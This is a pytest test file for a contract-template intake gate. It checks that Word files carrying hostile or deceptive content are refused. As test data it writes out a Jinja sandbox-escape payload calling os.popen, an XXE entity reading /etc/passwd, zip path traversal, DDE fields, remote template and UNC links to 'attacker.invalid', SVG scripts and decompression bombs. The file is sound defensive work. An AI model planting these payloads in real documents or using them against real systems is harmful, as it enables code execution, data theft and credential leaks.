"""Word files that a stranger edited: each is refused before anything else reads it, with every reason at once."""

from __future__ import annotations

import re
import struct
import time
import zlib

import pytest

from agreements.intake import open_house
from agreements.rendering.docx import fresh_house
from tests.intake.test_gate import OFFICE, field, refused_ids, text, with_body, with_part, with_relationship
from tests.rendering.docx_files import changed, packed, part, parts

WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_SHAPE = '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">{}</v:shape></w:pict></w:r></w:p>'
_CELL = "<w:tbl><w:tr><w:trPr>{}</w:trPr><w:tc><w:tcPr>{}</w:tcPr><w:p/></w:tc></w:tr></w:tbl>"
_TWO = (
    '<w:p><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
    '<mc:Choice Requires="wps"><w:t>A</w:t></mc:Choice><mc:Fallback><w:t>B</w:t></mc:Fallback>'
    "</mc:AlternateContent></w:r></w:p>"
)
_ONE = _TWO.replace("<mc:Fallback><w:t>B</w:t></mc:Fallback>", "")
_RUBY = (
    "<w:p><w:r><w:ruby><w:rt><w:r><w:t>not</w:t></w:r></w:rt><w:rubyBase><w:r><w:t>x</w:t></w:r></w:rubyBase></w:ruby>"
    "</w:r></w:p>"
)
_FORMULA = (
    '<w:p><m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:r><m:t>not</m:t></m:r>'
    "</m:oMath></w:p>"
)
_SVG_NAME = "http://www.w3.org/2000/svg"
_SVG = f'<svg xmlns="{_SVG_NAME}">{{}}</svg>'
_FLOATING = (
    '<w:p><w:r><w:drawing><wp:anchor xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
    ' behindDoc="{}"><wp:extent cx="7560000" cy="10692000"/></wp:anchor></w:drawing></w:r></w:p>'
)
_BOX = (
    '<w:p><w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" fillcolor="white" style="position:absolute;'
    'width:21cm;height:842pt;z-index:1"/></w:pict></w:r></w:p>'
)
_NONE = 'numFmt w:val="none"'
_INK, _NO_INK = '<w:color w:val="000000"/>', '<w:color w:val="FFFFFF"/>'
_SHADED = "<w:p><w:pPr>{}</w:pPr><w:r><w:rPr>{}</w:rPr><w:t>words</w:t></w:r></w:p>"
_W14 = 'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"'
_EFFECT = f"<w14:textFill {_W14}>{{}}</w14:textFill>"
_FILLED = '<w14:solidFill><w14:srgbClr w14:val="{}">{}</w14:srgbClr></w14:solidFill>'
_OUTLINE = f'<w14:textOutline {_W14} w14:w="9525">{_FILLED.format("0000FF", "")}</w14:textOutline>'


def split(word: str) -> str:
    """A field whose instruction is spread over runs and paragraphs, one letter in each."""
    letters = "".join(f"<w:p><w:r><w:instrText>{letter}</w:instrText></w:r></w:p>" for letter in word)
    begin, end = (f'<w:p><w:r><w:fldChar w:fldCharType="{kind}"/></w:r></w:p>' for kind in ("begin", "end"))
    return begin + letters + end


def png(width: int, height: int) -> bytes:
    """A picture of one colour, as small as it can be."""
    head = struct.pack(">2L5B", width, height, 1, 0, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * min(height * (width // 8 + 1), 100))), (b"IEND", b""))
    packed_ = b"".join(
        struct.pack(">L", len(data)) + name + data + struct.pack(">L", zlib.crc32(name + data)) for name, data in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + packed_


FIELDS = [
    "DDE",
    "ddeauto",
    "INCLUDETEXT",
    "INCLUDEPICTURE",
    "INCLUDE",
    "LINK",
    "IMPORT",
    "EMBED",
    "RD",
    "DATABASE",
    "MACROBUTTON",
]
FIELDS += [
    "AUTOTEXT",
    "ASK",
    "FILLIN",
    "IF",
    "QUOTE",
    "MERGEFIELD",
    "DOCVARIABLE",
    "ADDIN",
    "GOTOBUTTON",
    "SET",
    "FILENAME",
    "USERNAME",
]

BODIES = [
    *((f"W13 {word}", "field", split(f"{word} x")) for word in FIELDS),
    ("a field in a field", "field", field("PAGE ").replace("</w:p>", "") + field("DDE x") + "</w:p>"),
    (
        "a field in a box",
        "field",
        _SHAPE.format(f"<v:textbox><w:txbxContent>{field('DDE x')}</w:txbxContent></v:textbox>"),
    ),
    ("a link to a script", "field", field('HYPERLINK "javascript:x"')),
    ("a link into a network", "field", field('HYPERLINK "\\\\\\\\attacker.invalid\\\\x"')),
    ("W15", "hidden", text("secret", "<w:vanish/>")),
    ("W15 white", "hidden", text("secret", '<w:color w:val="FDFDFD"/>')),
    ("W15 white of a theme", "hidden", text("secret", '<w:color w:val="auto" w:themeColor="background1"/>')),
    ("W15 white on white", "hidden", text("secret", '<w:color w:val="FFFFFF"/><w:shd w:val="clear" w:fill="FFFFFF"/>')),
    ("W15 black on black", "hidden", text("secret", '<w:color w:val="000000"/><w:shd w:val="clear" w:fill="000000"/>')),
    ("W15 white by name", "hidden", text("secret", '<w:color w:val="white"/>')),
    ("W15 white by tint", "hidden", text("x", '<w:color w:val="000000" w:themeColor="text1" w:themeTint="00"/>')),
    ("W15 white under no pen", "hidden", text("x", '<w:color w:val="FFFFFF"/><w:highlight w:val="none"/>')),
    ("W15 white under a white pen", "hidden", text("x", '<w:color w:val="FFFFFF"/><w:highlight w:val="white"/>')),
    ("W15 blacked out", "hidden", text("secret", '<w:highlight w:val="black"/>')),
    ("W15 blue under a blue pen", "hidden", text("x", '<w:color w:val="000080"/><w:highlight w:val="darkBlue"/>')),
    ("W15 in a solid pattern", "hidden", text("x", f'{_INK}<w:shd w:val="solid" w:color="000000" w:fill="FFFFFF"/>')),
    ("W15 in a shaded paragraph", "hidden", _SHADED.format('<w:shd w:val="clear" w:fill="000009"/>', _INK)),
    ("W15 in a white paragraph", "hidden", _SHADED.format('<w:shd w:val="clear" w:fill="FFFFFF"/>', _NO_INK)),
    ("W15 no filling", "hidden", text("secret", _EFFECT.format("<w14:noFill/>"))),
    (
        "W15 a clear filling",
        "hidden",
        text("x", _EFFECT.format(_FILLED.format("000000", '<w14:alpha w14:val="100000"/>'))),
    ),
    ("W15 a white filling", "hidden", text("secret", _EFFECT.format(_FILLED.format("FFFFFF", "")))),
    ("W15 tiny", "hidden", text("secret", '<w:sz w:val="6"/>')),
    ("W15 squeezed", "hidden", text("secret", '<w:w w:val="1"/>')),
    ("W15 lowered", "hidden", text("secret", '<w:position w:val="-2000"/>')),
    ("W15 beside the paper", "hidden", '<w:p><w:pPr><w:ind w:left="-30000"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>'),
    ("W15 a row", "hidden", _CELL.format("<w:hidden/>", "")),
    ("W15 a flat row", "hidden", _CELL.format('<w:trHeight w:val="1" w:hRule="exact"/>', "")),
    ("W16", "hidden", '<w:p><w:ins w:id="1" w:author="x"><w:r><w:t>new</w:t></w:r></w:ins></w:p>'),
    ("W16 deleted", "hidden", '<w:p><w:del w:id="1" w:author="x"><w:r><w:delText>old</w:delText></w:r></w:del></w:p>'),
    ("W16 moved", "hidden", '<w:moveFromRangeStart w:id="1" w:author="x" w:name="x"/>'),
    ("W16 a cell", "hidden", _CELL.format("", '<w:cellDel w:id="1" w:author="x"/>')),
    ("W16 looks", "hidden", text("x", '<w:rPrChange w:id="1" w:author="x"><w:rPr/></w:rPrChange>')),
    ("W15 for some programs alone", "text-mismatch", _ONE),
    ("W15 in an element of nobody", "text-mismatch", '<w:p><x:y xmlns:x="urn:x"><w:r><w:t>x</w:t></w:r></x:y></w:p>'),
    ("W15 a sign", "text-mismatch", '<w:p><w:r><w:sym w:font="Wingdings" w:char="F0FE"/></w:r></w:p>'),
    ("W15 a sign for some", "text-mismatch", _TWO.replace("<w:t>B</w:t>", '<w:t>A</w:t><w:sym w:char="F0FE"/>')),
    ("W15 turned round", "text-mismatch", '<w:p><w:bdo w:val="rtl"><w:r><w:t>1-2</w:t></w:r></w:bdo></w:p>'),
    ("W15 from right to left", "text-mismatch", text("1-2", "<w:rtl/>")),
    ("W15 struck through", "text-mismatch", text("must pay", "<w:strike/>")),
    ("W15 small above", "text-mismatch", _RUBY),
    ("W15 under a picture", "hidden", _FLOATING.format(0)),
    ("W15 under a box", "hidden", _BOX),
    ("W15 a formula", "text-mismatch", _FORMULA),
    ("W11", "active", '<w:altChunk r:id="rId99"/>'),
    ("W12", "active", "<w:p><w:r><w:object/></w:r></w:p>"),
    ("W12 ActiveX", "active", "<w:p><w:r><w:control/></w:r></w:p>"),
    ("W12 another document", "active", '<w:subDoc r:id="rId99"/>'),
    (
        "W12 bound words",
        "active",
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/x" w:storeItemID="{1}"/></w:sdtPr></w:sdt>',
    ),
    ("W09 in the markup", "external", _SHAPE.format('<v:imagedata src="\\\\attacker.invalid\\x.png"/>')),
    ("W01", "sandbox", text("{{ cycler.__init__.__globals__.os.popen('touch PWNED').read() }}")),
    ("W01 split", "sandbox", "<w:p>" + "".join(f"<w:r><w:t>{c}</w:t></w:r>" for c in "{{frame.__class__}}") + "</w:p>"),
    ("W01 a call", "sandbox", text("{{ frame.title.upper() }}")),
    ("W01 memory", "sandbox", text("{{ 'a'*2000000000 }}")),
    ("W01 a power", "sandbox", text("{{ 9**9**9 }}")),
    ("W01 loops", "sandbox", text("{% for a in range(1000) %}{% endfor %}")),
    ("W02", "path", text("{% include 'x' %}")),
    ("W02 a macro", "template", text("{% macro m() %}{% endmacro %}")),
    ("W02 escaping", "lint", text("{% autoescape false %}x{% endautoescape %}")),
    ("W02 safe", "lint", text("{{ frame.title|safe }}")),
    ("W24", "finalize", text("{{ none }}")),
    ("W25", "template-syntax", text("{% for party in frame.parties %}")),
    ("W25 a tag", "template-syntax", text("{{ frame.title")),
    ("W25 a brace", "template-syntax", text("frame.title }}")),
    ("W26", "undefined", text("{{ fram.title }}")),
    ("W28", "docxtpl-escape", text("{_{ x }_}")),
    ("W29", "text-mismatch", text("{# the clause that vanishes #}")),
    ("W29 over paragraphs", "text-mismatch", text("{# the clause") + text("that vanishes #}")),
    (
        "W30",
        "text-mismatch",
        _TWO,
    ),
    ("W17 in a name", "unrendered", '<w:p><w:bookmarkStart w:id="9" w:name="{{ cycler }}"/></w:p>'),
    ("W17 in a field", "unrendered", field("TITLE {{ frame.title }}")),
    ("turned round", "bidi", text("a\u202eb")),
    ("unseen", "invisible", text("a\u200bb")),
]
PARTS = [
    ("W03 in an odd property", "sandbox", "docProps/app.xml", b"<x>{{ cycler.__init__ }}</x>"),
    ("W17", "unrendered", "word/comments.xml", b"<x>{{ frame.title }}</x>"),
    (
        "W17 endnotes",
        "unrendered",
        "word/endnotes.xml",
        f"<w:endnotes {WORD}><w:t>{{{{ frame.title }}}}</w:t></w:endnotes>".encode(),
    ),
    ("W17 a property", "unrendered", "docProps/custom.xml", b"<x>{{ frame.title }}</x>"),
    ("W17 data", "unrendered", "customXml/item1.xml", b"<x>{% if x %}</x>"),
    ("W06", "xml", "word/more.xml", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
    ("W07", "xml", "word/more.xml", b'<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;">]><x>&b;</x>'),
    ("W06 under another name", "xml", "word/more.dat", b"\n<!DOCTYPE x><x/>"),
    ("W06 in UTF-16", "xml", "word/more.xml", "<!DOCTYPE x><x/>".encode("utf-16")),
    ("W06 in UTF-7", "xml", "word/more.xml", b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x/+AD4-'),
    ("W10", "active", "word/vbaProject.bin", b"x"),
    ("W10 a script", "active", "word/x.ps1", b"x"),
    ("W10 by its content", "active", "word/notes.txt", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    ("W11 a page that nothing leads to", "active", "word/x.mht", b"MIME-Version: 1.0"),
    ("W11 text that nothing leads to", "active", "word/x.rtf", rb"{\rtf1 x}"),
    ("W10 buttons", "active", "customUI/customUI14.xml", b'<customUI onLoad="x"/>'),
    ("W12 a program", "active", "word/notes.txt", b"MZ"),
    ("W18", "zip", "../../evil.txt", b"x"),
    ("W18 encoded", "zip", "word/%2e%2e/x.xml", b"<x/>"),
    ("W18 a device", "zip", "word/con.xml", b"<x/>"),
    ("W18 backslash", "zip", "word\\evil.txt", b"x"),
    ("W18 a drive", "zip", "C:evil.txt", b"x"),
    ("W19 by capitals", "zip", "WORD/DOCUMENT.XML", b"<x/>"),
    ("W19 by another form", "zip", "word/\uff44ocument.xml", b"<x/>"),
    ("W13 in a part of any name", "field", "word/x.dat", f"<w:hdr {WORD}>{field('DDE x')}</w:hdr>".encode()),
    (
        "W14 in the strict form",
        "format",
        "word/header9.xml",
        b'<w:hdr xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"/>',
    ),
    ("H33", "resource", "word/media/bomb.png", png(13_000, 13_000)),
    ("H33 JPEG", "resource", "word/media/bomb.jpg", b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff" + b"0" * 20),
    ("H34", "resource", "word/media/x.png", b"%!PS-Adobe-3.0 EPSF-3.0\n(touch PWNED) show"),
    ("H34 a page", "resource", "word/media/x.jpg", b"<html></html>"),
    ("H34 and a zip behind it", "resource", "word/media/x.png", png(9, 9) + b"PK\x05\x06"),
    ("H32 words", "resource", "word/media/x.svg", _SVG.format("<text>not</text>").encode()),
    (
        "H32 a script by another name",
        "resource",
        "word/media/x.svg",
        _SVG.format(f"<s:script xmlns:s='{_SVG_NAME}'/>").encode(),
    ),
    ("H32 a handler", "resource", "word/media/x.svg", _SVG.format("<path onload='x'/>").encode()),
    ("H32 a filter that fetches", "resource", "word/media/x.svg", _SVG.format("<feImage href='x'/>").encode()),
    (
        "H32 a ground that fetches",
        "resource",
        "word/media/x.svg",
        _SVG.format("<path style='fill:url(http://x)'/>").encode(),
    ),
    ("H32", "resource", "word/media/x.svg", b'<!DOCTYPE svg [<!ENTITY a "lol">]><svg>&a;</svg>'),
    *(
        (f"H22 {word}", "resource", "word/media/x.svg", f"<svg>{markup}</svg>".encode())
        for word, markup in {
            "script": "<script/>",
            "use": '<use href="http://127.0.0.1:9/x"/>',
            "xlink": '<a xmlns:xlink="x" xlink:href="file:///x"/>',
            "foreign": "<foreignObject/>",
            "style": "<style>@import 'x'</style>",
            "url": '<rect fill="url(http://127.0.0.1:9/)"/>',
            "handler": '<rect onclick="x"/>',
            "image": '<image href="data:image/png;base64,"/>',
        }.items()
    ),
]
RELATIONSHIPS = [
    (
        "W08",
        "external",
        f'Type="{OFFICE}/attachedTemplate" Target="http://attacker.invalid/x.dotm" TargetMode="External"',
    ),
    ("W08 inside", "external", f'Type="{OFFICE}/attachedTemplate" Target="x.dotm"'),
    ("W09", "external", f'Type="{OFFICE}/image" Target="file://///attacker.invalid/x.png" TargetMode="External"'),
    ("W09 without a mode", "external", f'Type="{OFFICE}/image" Target="\\\\attacker.invalid\\x.png"'),
    ("W09 with a space", "external", f'Type="{OFFICE}/image" Target="x.png" TargetMode=" external"'),
    ("W09 upwards", "external", f'Type="{OFFICE}/image" Target="../../../etc/passwd"'),
    ("a frame", "external", f'Type="{OFFICE}/frame" Target="http://127.0.0.1:9/" TargetMode="External"'),
    ("a film", "external", f'Type="{OFFICE}/video" Target="http://127.0.0.1:9/" TargetMode="External"'),
    ("a link to a script", "external", f'Type="{OFFICE}/hyperlink" Target="javascript:x" TargetMode="External"'),
    (
        "a link to a share",
        "external",
        f'Type="{OFFICE}/hyperlink" Target="smb://attacker.invalid" TargetMode="External"',
    ),
    ("W11", "active", f'Type="{OFFICE}/aFChunk" Target="chunk.html"'),
    (
        "W10",
        "active",
        'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"',
    ),
]


@pytest.mark.parametrize(("kind", "markup"), [pytest.param(*row[1:], id=row[0]) for row in BODIES])
def test_a_body_that_acts_hides_or_reaches_is_refused(kind: str, markup: str) -> None:
    """Plain libraries keep all of it in every agreement made."""
    assert kind in refused_ids(with_body(markup))


@pytest.mark.parametrize(("kind", "name", "data"), [pytest.param(*row[1:], id=row[0]) for row in PARTS])
def test_a_part_that_acts_hides_or_reaches_is_refused(kind: str, name: str, data: bytes) -> None:
    """By its name, by what is in it, or by what its name says and it is not."""
    assert kind in refused_ids(with_part(name, data))


@pytest.mark.parametrize(("kind", "attributes"), [pytest.param(*row[1:], id=row[0]) for row in RELATIONSHIPS])
def test_a_relationship_that_leads_out_is_refused(kind: str, attributes: str) -> None:
    """Word follows it as soon as the agreement is opened."""
    assert kind in refused_ids(with_relationship(attributes))


def test_words_hidden_by_a_style_that_is_based_on_a_hiding_one_are_refused() -> None:
    """Word follows the chain of styles."""
    styles = (
        '<w:style w:type="character" w:styleId="A"><w:rPr><w:vanish/></w:rPr></w:style>'
        '<w:style w:type="character" w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'
    )
    hidden = changed(fresh_house(), lambda xml: xml.replace("</w:styles>", styles), "word/styles.xml")
    body = changed(hidden, lambda xml: xml.replace("<w:body>", "<w:body>" + text("secret", '<w:rStyle w:val="B"/>'), 1))

    assert refused_ids(body) == {"hidden"}


def test_code_in_the_title_of_the_file_is_refused() -> None:
    """W03: the template engine of plain libraries runs it."""
    bad = changed(
        fresh_house(), lambda xml: xml.replace("{{ frame.title }}", "{{ cycler.__init__ }}"), "docProps/core.xml"
    )

    assert "sandbox" in refused_ids(bad)


NO_WORD_FILE = {
    "W20": b"hello",
    "W21": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "W22": fresh_house()[:4000],
    "W23": packed({}),
}


@pytest.mark.parametrize("data", NO_WORD_FILE.values(), ids=NO_WORD_FILE)
def test_what_is_no_word_file_is_told_in_one_sentence(data: bytes) -> None:
    """Not with a traceback."""
    assert refused_ids(data) == {"format"}


LATER = ("docProps/app.xml", "docProps/core.xml", "word/fontTable.xml", "word/settings.xml", "word/theme/theme1.xml")


@pytest.mark.parametrize("name", LATER)
def test_a_file_that_lacks_a_part_to_which_it_leads_is_refused(name: str) -> None:
    """The gate has no use for these parts; what makes the agreement does, and would fail there."""
    assert refused_ids(packed({part: data for part, data in parts(fresh_house()).items() if part != name})) == {
        "format"
    }


@pytest.mark.parametrize("name", ["[Content_Types].xml", "docProps/core.xml", "word/settings.xml", "word/footer1.xml"])
def test_a_part_that_is_not_what_leads_to_it_says_is_refused(name: str) -> None:
    """Well formed, and something else."""
    assert refused_ids(with_part(name, b"<x/>")) == {"format"}


@pytest.mark.parametrize("kind", ["text/html", "application/vnd.ms-word.template.main+xml"])
def test_a_main_part_of_another_kind_is_refused(kind: str) -> None:
    """One program goes by the kind and another by the relationship."""
    listed = f'<Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
    bad = changed(fresh_house(), lambda xml: xml.replace("</Types>", listed), "[Content_Types].xml")

    assert refused_ids(bad) == {"format"}


def test_a_list_that_begins_beyond_all_numbers_is_refused() -> None:
    """As a letter it would fill the memory."""
    far = re.sub('w:start w:val="[0-9]+"', 'w:start w:val="99999999999"', part(fresh_house(), "word/numbering.xml"))

    assert refused_ids(with_part("word/numbering.xml", far.encode())) == {"format"}


@pytest.mark.parametrize("look", ["<w:vanish/>", '<w:color w:val="FFFFFF"/>', '<w:sz w:val="2"/>'])
def test_text_that_is_hidden_by_what_holds_for_all_text_is_refused(look: str) -> None:
    """The defaults stand under every style."""
    bad = changed(
        fresh_house(),
        lambda xml: re.sub(r"(<w:rPrDefault>\s*<w:rPr>)", rf"\1{look}", xml, count=1),
        "word/styles.xml",
    )

    assert "hidden" in refused_ids(bad)


@pytest.mark.parametrize("markup", ["<w:p/>" * 10_001, f"<w:p>{'<w:r/>' * 200_000}</w:p>"], ids=["paragraphs", "runs"])
def test_a_house_style_longer_than_any_agreement_is_refused(markup: str) -> None:
    """Every agreement would be made of it, one after the other."""
    assert refused_ids(with_body(markup)) == {"size"}


def _heirs(of: str, many: int, last: str) -> bytes:
    """A fresh house style in which a style is based on many others in turn, the last of which looks so."""
    chain = "".join(
        f'<w:style w:type="paragraph" w:styleId="X{n}"><w:name w:val="X{n}"/><w:basedOn w:val="X{n + 1}"/></w:style>'
        for n in range(many)
    )
    end = f'<w:style w:type="paragraph" w:styleId="X{many}"><w:name w:val="X{many}"/>{last}</w:style></w:styles>'
    based = rf'(<w:name w:val="{of}"/>)(?:<w:basedOn w:val="[^"]*"/>)?'
    return changed(
        fresh_house(),
        lambda xml: re.sub(based, r'\1<w:basedOn w:val="X0"/>', xml).replace("</w:styles>", chain + end),
        "word/styles.xml",
    )


@pytest.mark.parametrize(
    ("of", "many", "last", "kind"),
    [("Schedule Level 4", 9_000, "<w:rPr><w:vanish/></w:rPr>", "hidden"), ("Body Text", 51, "", "format")],
)
def test_a_long_chain_of_styles_is_followed_to_its_end_in_good_time(of: str, many: int, last: str, kind: str) -> None:
    """Each link was looked for among all styles again."""
    start = time.process_time()

    assert kind in refused_ids(_heirs(of, many, last))
    assert time.process_time() - start < 5


def _levels(look: str) -> bytes:
    """A fresh house style with numbers of that look."""
    plain = re.sub(r"<w:rPr>(?:(?!</w:rPr>).)*</w:rPr>(?=</w:lvl>)", "", part(fresh_house(), _LISTS))
    return with_part(_LISTS, plain.replace("</w:lvl>", f"<w:rPr>{look}</w:rPr></w:lvl>").encode())


_LISTS = "word/numbering.xml"


@pytest.mark.parametrize("look", ["<w:vanish/>", _NO_INK, '<w:sz w:val="2"/>', _EFFECT.format("<w14:noFill/>")])
def test_numbers_that_nobody_sees_are_refused(look: str) -> None:
    """A PDF has them all the same, so that the two would not say the same."""
    assert refused_ids(_levels(look)) == {"hidden"}


def test_a_number_that_is_hidden_in_the_place_of_a_level_is_refused() -> None:
    """A list may set a level of its own."""
    level = '<w:lvl w:ilvl="0"><w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/><w:rPr><w:vanish/></w:rPr></w:lvl>'
    own = re.sub(
        r'(<w:num w:numId="\d+"[^>]*>\s*<w:abstractNumId w:val="\d+"/>)',
        rf'\1<w:lvlOverride w:ilvl="0">{level}</w:lvlOverride>',
        part(fresh_house(), _LISTS),
    )

    assert refused_ids(with_part(_LISTS, own.encode())) == {"hidden"}


@pytest.mark.parametrize(
    ("old", "new"), [(r'lvlText w:val="[^"]*"', 'lvlText w:val=""'), (r'numFmt w:val="\w*"', _NONE)]
)
def test_a_list_that_prints_no_number_is_refused(old: str, new: str) -> None:
    """References would name what is not there."""
    assert refused_ids(with_part(_LISTS, re.sub(old, new, part(fresh_house(), _LISTS)).encode())) == {"house-style"}


def test_numbers_of_which_word_says_that_they_are_not_hidden_come_in() -> None:
    """Word writes that by itself."""
    assert open_house(_levels('<w:b/><w:vanish w:val="0"/><w:color w:val="auto"/>')).docx


STYLED = {
    "hidden": "<w:rPr><w:vanish/></w:rPr>",
    "one line on another": '<w:pPr><w:spacing w:line="20" w:lineRule="exact"/></w:pPr>',
    "beside the paper": '<w:pPr><w:framePr w:x="30000" w:y="30000"/></w:pPr>',
    "blacked out": '<w:pPr><w:shd w:val="clear" w:fill="111111"/></w:pPr><w:rPr><w:color w:val="111111"/></w:rPr>',
}


@pytest.mark.parametrize("look", STYLED.values(), ids=STYLED)
def test_a_style_that_only_agreements_use_may_not_hide_either(look: str) -> None:
    """Nothing in the file itself stands in it."""
    styles = re.sub(
        r'(<w:style [^>]*>)(<w:name w:val="Schedule Level 4"/>)(?:(?!</w:style>).)*',
        rf'\1\2<w:basedOn w:val="ScheduleLevel3"/>{look}',
        part(fresh_house(), "word/styles.xml"),
    )

    assert "hidden" in refused_ids(with_part("word/styles.xml", styles.encode()))


def test_type_larger_than_the_paper_is_refused() -> None:
    """No page would hold a word of it."""
    styles = re.sub(
        r'(<w:name w:val="Body Text"/>(?:(?!</w:style>).)*)</w:style>',
        r'\1<w:rPr><w:sz w:val="99999"/></w:rPr></w:style>',
        re.sub(r'<w:sz w:val="\d+"/>', "", part(fresh_house(), "word/styles.xml")).replace("<w:rPr></w:rPr>", ""),
    )

    assert refused_ids(with_part("word/styles.xml", styles.encode())) == {"house-style"}


PAGES = {
    "a stamp": (r'w:pgSz w:w="\d+" w:h="\d+"', 'w:pgSz w:w="200" w:h="200"'),
    "a wall": (r'w:pgSz w:w="\d+" w:h="\d+"', 'w:pgSz w:w="999999" w:h="999999"'),
    "all margin": (r'w:left="\d+"', 'w:left="12000"'),
}


@pytest.mark.parametrize(("old", "new"), PAGES.values(), ids=PAGES)
def test_a_page_on_which_nothing_can_be_printed_is_refused(old: str, new: str) -> None:
    """The PDF would take for ever, or be a fault of the program."""
    assert refused_ids(changed(fresh_house(), lambda xml: re.sub(old, new, xml))) == {"house-style"}


ZIPS = {
    "W04": with_part("word/media/zeros.png", b"\0" * 30_000_000),
    "W05": packed({**parts(fresh_house()), **{f"word/x{n}.xml": b"<x/>" for n in range(3000)}}),
}


@pytest.mark.parametrize("data", ZIPS.values(), ids=ZIPS)
def test_a_zip_that_unpacks_to_too_much_is_refused(data: bytes) -> None:
    """Before it has taken the memory."""
    assert refused_ids(data) == {"zip"}


@pytest.mark.parametrize(
    "markup",
    [
        text("{{ frame[\u201ctitle\u201d] }}"),
        text("{{ frame.title | upper }}"),
        text("A & B".replace("&", "&amp;")),
        text("grey", '<w:color w:val="808080" w:themeColor="background1" w:themeShade="80"/>'),
        text("nearly black", '<w:color w:val="0D0D0D" w:themeColor="text1" w:themeTint="F2"/>'),
        text("marked", '<w:highlight w:val="yellow"/>'),
        text("an outline", _OUTLINE + _EFFECT.format(_FILLED.format("FFFFFF", ""))),
        text("an effect", _EFFECT.format(_FILLED.format("1F3864", '<w14:lumMod w14:val="75000"/>'))),
        _SHADED.format('<w:shd w:val="clear" w:color="auto" w:fill="1F3864"/>', _NO_INK),
        _SHADED.format('<w:shd w:val="clear" w:fill="4472C4" w:themeFill="accent1"/>', _NO_INK),
        _SHADED.format('<w:shd w:val="clear" w:fill="000000"/>', ""),
        _CELL.format("", '<w:shd w:val="clear" w:fill="1F3864"/>').replace("<w:p/>", text("white on blue", _NO_INK)),
    ],
)
def test_what_people_write_in_word_comes_in(markup: str) -> None:
    """W27: Word makes quotation marks curly by itself."""
    assert open_house(with_body(markup)).docx


@pytest.mark.parametrize(
    ("part", "old", "new"),
    [
        ("word/styles.xml", 'w:sz w:val="', 'w:sz w:val="../../'),
        ("word/styles.xml", 'w:line="', 'w:line="x'),
        ("word/_rels/document.xml.rels", 'Id="rId', 'Id="rIdx'),
    ],
)
def test_a_well_formed_file_that_word_did_not_write_is_a_finding(part: str, old: str, new: str) -> None:
    """Found by changing a fresh house style at random."""
    assert "format" in refused_ids(changed(fresh_house(), lambda xml: xml.replace(old, new), part))


def test_a_picture_behind_the_words_and_a_small_one_before_them_pass() -> None:
    """A watermark, and a logo that floats, are what houses have."""
    small = _FLOATING.format(0).replace("7560000", "1800000").replace("10692000", "900000")

    open_house(with_body(_FLOATING.format(1) + small))
    open_house(with_part("word/media/x.svg", _SVG.format("<title>Logo</title><path d='M0 0h9v9z'/>").encode()))
